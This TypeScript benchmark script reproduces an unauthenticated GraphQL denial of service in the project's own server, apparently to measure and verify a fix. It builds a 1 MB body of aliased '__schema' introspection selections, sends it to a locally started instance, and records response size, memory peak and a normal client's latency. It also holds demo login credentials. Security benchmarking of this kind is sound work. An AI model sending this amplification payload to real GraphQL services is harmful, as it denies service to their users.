/**
 * npm run bench:graphql-abuse — the unauthenticated GraphQL denial of service of issue 11 A1:
 * one request body (BENCH_ABUSE_BYTES, default 1 MB) of aliased
 * `__schema { types { fields { name } } }` selections, sent without a token, while a second
 * client asks `me` every 50 ms. Prints the abusive request's status, response size and time,
 * the process's peak RSS, and the normal client's latencies before and during the abuse.
 * Uses DATABASE_URL or the embedded PostgreSQL (EMBEDDED_PG_PORT, DATA_DIR) like `npm start`;
 * NODE_ENV decides development (introspection open) or production.
 */

import { buildApp } from "../../server/app.ts";
import { EventHub } from "../../services/main/events/hub.ts";
import { prepareDatabase } from "../../services/shared/runtime.ts";

const ABUSE_BYTES = Number(process.env["BENCH_ABUSE_BYTES"] ?? 1024 * 1024);
const NORMAL_EVERY_MS = 50;

const { target, db } = await prepareDatabase();
const hub = new EventHub(target.appUrl, db);
await hub.start();
const app = await buildApp({
  db,
  hub,
  environment: process.env["NODE_ENV"] ?? "development",
  consoleDir: null,
});
await app.listen({ port: 0, host: "127.0.0.1" });
const address = app.server.address();
const base = `http://127.0.0.1:${typeof address === "object" && address ? address.port : 0}`;

const loginResponse = await fetch(`${base}/api/main/v1/auth/login`, {
  method: "POST",
  headers: { "content-type": "application/json" },
  body: JSON.stringify({ email: "admin@maju.test", password: "Tenaga-demo-1" }),
});
const { data } = (await loginResponse.json()) as { data: { token: string } };
const normalHeaders = { authorization: `Bearer ${data.token}`, "content-type": "application/json" };
const meQuery = JSON.stringify({ query: "query Me { me { user { id email } } }" });

/** The abusive body: as many aliased introspection selections as fit in ABUSE_BYTES. */
function abusiveBody(): string {
  const parts: string[] = [];
  let length = 20;
  for (let i = 0; ; i++) {
    const part = `a${i}: __schema { types { fields { name } } } `;
    if (length + part.length > ABUSE_BYTES) break;
    parts.push(part);
    length += part.length;
  }
  return JSON.stringify({ query: `{ ${parts.join("")}}` });
}

/** One normal request's round trip, in ms (status must be 200 with data). */
async function normalRequest(): Promise<number> {
  const started = performance.now();
  const response = await fetch(`${base}/graphql`, {
    method: "POST",
    headers: normalHeaders,
    body: meQuery,
  });
  const body = (await response.json()) as { data?: unknown; errors?: unknown };
  if (response.status !== 200 || body.errors)
    throw new Error(`normal request: ${response.status} ${JSON.stringify(body.errors)}`);
  return performance.now() - started;
}

/** Sends the abusive body and reads the answer as a stream (counting bytes, keeping none). */
async function abusiveRequest(body: string) {
  const started = performance.now();
  const response = await fetch(`${base}/graphql`, {
    method: "POST",
    headers: { "content-type": "application/json", accept: "application/json" },
    body,
  });
  let bytes = 0;
  let head = "";
  const reader = response.body?.getReader();
  for (let chunk = await reader?.read(); chunk && !chunk.done; chunk = await reader?.read()) {
    if (head.length < 300) head += new TextDecoder().decode(chunk.value.slice(0, 300));
    bytes += chunk.value.byteLength;
  }
  return { status: response.status, bytes, ms: performance.now() - started, head };
}

let peakRss = process.memoryUsage().rss;
const rssTimer = setInterval(() => {
  peakRss = Math.max(peakRss, process.memoryUsage().rss);
}, 20);

// Baseline: the normal client alone.
for (let i = 0; i < 20; i++) await normalRequest();
const baseline: number[] = [];
for (let i = 0; i < 40; i++) baseline.push(await normalRequest());

// During: the normal client keeps asking while the abusive request is in flight.
const body = abusiveBody();
const during: number[] = [];
let abuseDone = false;
const normalLoop = (async () => {
  while (!abuseDone) {
    during.push(await normalRequest());
    await new Promise((resolve) => setTimeout(resolve, NORMAL_EVERY_MS));
  }
})();
const rssBefore = process.memoryUsage().rss;
const abuse = await abusiveRequest(body);
abuseDone = true;
await normalLoop;
clearInterval(rssTimer);

const sorted = (values: number[]) => [...values].sort((a, b) => a - b);
const percentile = (values: number[], p: number) => {
  const s = sorted(values);
  return s.length ? s[Math.min(s.length - 1, Math.ceil((p / 100) * s.length) - 1)]! : Number.NaN;
};
const mb = (bytes: number) => (bytes / 1024 / 1024).toFixed(1);

console.log(
  `mode: ${process.env["NODE_ENV"] ?? "development"}; abusive body ${mb(body.length)} MB (${body.length} bytes)`,
);
console.table([
  {
    request: "abusive (no token)",
    status: abuse.status,
    "response bytes": abuse.bytes,
    "response MB": mb(abuse.bytes),
    "time ms": abuse.ms.toFixed(0),
  },
]);
console.log(`abusive answer begins: ${abuse.head.slice(0, 200).replace(/\s+/g, " ")}`);
console.table([
  {
    "normal me": "alone",
    requests: baseline.length,
    "p50 ms": percentile(baseline, 50).toFixed(1),
    "max ms": Math.max(...baseline).toFixed(1),
  },
  {
    "normal me": "during abuse",
    requests: during.length,
    "p50 ms": percentile(during, 50).toFixed(1),
    "max ms": Math.max(...during).toFixed(1),
  },
]);
console.log(`RSS: ${mb(rssBefore)} MB before the abuse, peak ${mb(peakRss)} MB`);

await app.close();
await hub.stop();
await db.close();
await target.stop();
